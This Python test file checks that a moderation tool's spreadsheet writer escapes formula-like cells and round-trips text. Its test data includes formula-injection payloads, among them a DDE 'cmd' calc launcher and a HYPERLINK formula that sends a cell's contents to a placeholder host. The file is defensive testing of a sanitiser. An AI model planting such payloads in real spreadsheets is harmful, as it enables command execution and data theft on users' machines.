"""No cell of a file that the house writes is a formula, and a list comes back as it went."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from moderation import cells, sheets

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://x.example?"&A1)', "+1", "-1+2", "@SUM(A1)",
    "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u3000=1", "＝1", "＋1", "－1", "＠SUM(1)",
    "'=1", "' =1", "''=1", "'\t1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_a_text(text):
    assert cells.written(text) == f"'{text}"
    assert cells.read(cells.written(text)) == text


@pytest.mark.parametrize("text", ["", "a=1", "'tis", "rock 'n' roll", "1-2", "#1", "'", "“=”"])
def test_what_is_none_is_written_as_it_is(text):
    assert cells.written(text) == text == cells.read(text)


@given(st.text("'=+-@ \t\r\n＝a"))
def test_any_text_comes_back(text):
    assert cells.read(cells.written(text)) == text


@pytest.mark.parametrize("words", ["'=1", "=1", "＝1", "-a", "'quoted'"])
def test_a_list_of_words_comes_back_as_it_went(words):
    file = "".join(sheets.write([("word", words, "hold", "")])).encode()

    [row] = sheets.read(file)

    assert row.words == words
